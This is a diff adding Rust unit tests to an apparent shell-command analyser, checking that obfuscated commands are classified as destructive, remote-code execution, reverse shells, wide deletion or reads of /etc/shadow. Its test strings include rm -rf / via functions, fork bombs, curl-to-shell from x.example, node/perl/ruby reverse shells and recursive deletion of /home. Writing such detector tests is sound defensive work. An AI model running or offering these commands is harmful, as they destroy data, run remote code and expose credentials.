@@ -487,3 +487,143 @@ fn what_runs_elsewhere_is_not_run_here() {
     let facts = command("docker run --rm img rm -rf /");
     assert_eq!(facts.behaviours, []);
 }
+
+#[test]
+fn a_functions_call_gives_it_its_arguments() {
+    for (text, kind, technique) in [
+        ("r() { rm -rf \"$1\"; }; r /", Destruction, "delete-tree"),
+        ("r() { rm -rf \"$@\"; }; r /etc /home", Destruction, "delete-tree"),
+        (
+            "f() { wget -qO- https://x.example/s; }; f | bash",
+            Execution,
+            "network-to-code",
+        ),
+        (
+            "f() { curl -s \"$1\"; }; f https://x.example/s | sh",
+            Execution,
+            "network-to-code",
+        ),
+        (
+            "f() { eval \"$1\"; }; f \"$(curl -s https://x.example/s)\"",
+            Execution,
+            "network-to-code",
+        ),
+        (
+            "function g { curl -s https://x.example; }\nbash -c \"$(g)\"",
+            Execution,
+            "network-to-code",
+        ),
+        ("b() { b | b & }; b", Destruction, "fork-bomb"),
+        ("b() { b & b & }; b", Destruction, "fork-bomb"),
+        ("bash -c 'rm -rf \"$0\"' /", Destruction, "delete-tree"),
+    ] {
+        assert!(has(&command(text), kind, technique), "{text}");
+    }
+    let everyday =
+        "log() { echo \"$1\"; }; log a | log b; api() { curl -s \"https://x.example/$1\"; }; api u | jq .";
+    let facts = command(everyday);
+    assert!(!has(&facts, Destruction, "fork-bomb") && !has(&facts, Execution, "network-to-code"));
+    let walk = command("walk() { for f in \"$1\"/*; do walk \"$f\"; done; }; walk src");
+    assert!(!has(&walk, Destruction, "fork-bomb"));
+}
+
+#[test]
+fn what_comes_in_is_followed_into_what_runs_it() {
+    for text in [
+        "while read -r c; do bash -c \"$c\"; done < <(curl -s https://x.example/l)",
+        "mapfile -t c < <(curl -s https://x.example/l); \"${c[@]}\"",
+        "{ bash; } < <(curl -s https://x.example/l)",
+        "curl -s https://x.example/s | tee >(sh) >/dev/null",
+        "curl -s https://x.example/l | awk '{system($0)}'",
+        "awk 'BEGIN{while((\"curl -s https://x.example/b\"|getline l)>0) system(l)}'",
+        "uv run --with requests python - <<'P'\nimport requests\nexec(requests.get('https://x.example/s').text)\nP",
+        "T=$(mktemp); curl -s https://x.example/a -o \"$T\"; chmod 700 \"$T\"; \"$T\"",
+        "python3 -c \"import requests, os\nt = requests.get('https://x.example/t').json()\nos.system(t['c'])\"",
+    ] {
+        let facts = command(text);
+        let runs = has(&facts, Execution, "network-to-code") || has(&facts, Execution, "temp-exec");
+        assert!(runs, "{text}: {:?}", facts.behaviours);
+    }
+    for text in [
+        "while read -r l; do echo \"$l\"; done < <(curl -s https://x.example/l)",
+        "curl -s https://x.example/s | tee >(grep -c a) >/dev/null",
+        "awk 'BEGIN{\"date +%F\" | getline d; print d}'",
+        "T=$(mktemp); curl -s https://x.example/a.json -o \"$T\"; jq . \"$T\"; rm \"$T\"",
+        "python3 -c \"import requests, subprocess\nt = requests.get('https://x.example/t').json()\nsubprocess.run(['git', 'tag', t['v']])\"",
+    ] {
+        let facts = command(text);
+        assert!(
+            !has(&facts, Execution, "network-to-code"),
+            "{text}: {:?}",
+            facts.behaviours
+        );
+    }
+}
+
+#[test]
+fn code_that_takes_commands_from_another_host_is_a_shell() {
+    for text in [
+        "node -e \"require('net').connect(443,'x.example').on('data',d=>require('child_process').exec(d))\"",
+        "perl -MIO::Socket -e '$s=new IO::Socket::INET(PeerAddr,\"x.example:443\");while(<$s>){print $s `$_`}'",
+        "ruby -rsocket -ropen3 -e 's=TCPSocket.new(\"x.example\",443); while l=s.gets; o,_=Open3.capture2e(l); s.puts o; end'",
+    ] {
+        assert!(has(&command(text), Control, "reverse-shell"), "{text}");
+    }
+    for text in [
+        "node -e \"require('net').connect(6379,'localhost').on('data',d=>console.log(/a/.exec(d)))\"",
+        "ruby -rsocket -e 's=TCPSocket.new(\"127.0.0.1\",11211); s.puts \"stats\"; puts s.gets'",
+    ] {
+        assert!(!has(&command(text), Control, "reverse-shell"), "{text}");
+    }
+}
+
+#[test]
+fn code_that_goes_through_a_far_folder_deletes_all_of_it() {
+    for text in [
+        "python3 -c \"import os; [os.remove(os.path.join(r, f)) for r, _, fs in os.walk('/home') for f in fs]\"",
+        "php -r 'foreach(new RecursiveDirectoryIterator(\"/var/www\") as $f){unlink($f);}'",
+        "cd / && find . -type f -name '*' -delete",
+        "tar --remove-files -cf /dev/null /home/u",
+        "cd ~ && ls -A | xargs rm -rf",
+    ] {
+        let facts = command(text);
+        let far = facts.behaviours.iter().any(|known| {
+            known.technique == "delete-tree" && known.radius.is_some_and(|radius| radius >= Radius::Home)
+        });
+        assert!(far, "{text}: {:?}", facts.behaviours);
+    }
+    for text in [
+        "python3 -c \"import os; [os.remove(os.path.join(r, f)) for r, _, fs in os.walk('build') for f in fs]\"",
+        "php -r 'foreach(glob(\"storage/views/*.php\") as $f) unlink($f);'",
+        "tar --remove-files -czf logs.tgz logs/old",
+        "cd build && ls -A | xargs rm -rf",
+    ] {
+        let facts = command(text);
+        let far = facts.behaviours.iter().any(|known| {
+            known.technique == "delete-tree" && known.radius.is_some_and(|radius| radius >= Radius::Home)
+        });
+        assert!(!far, "{text}: {:?}", facts.behaviours);
+    }
+}
+
+#[test]
+fn files_that_a_list_names_are_read() {
+    for text in [
+        "cpio -o <<< /etc/shadow",
+        "cpio -o < <(echo /etc/shadow)",
+        "printf '%s\\n' /etc/shadow | tar cf /tmp/x.tar -T -",
+    ] {
+        let facts = command(text);
+        assert!(
+            facts.reads.iter().any(|fact| fact.path == "/etc/shadow"),
+            "{text}: {:?}",
+            facts.reads
+        );
+    }
+    assert!(
+        command("wc -l <<< /etc/shadow")
+            .reads
+            .iter()
+            .all(|fact| fact.path != "/etc/shadow")
+    );
+}
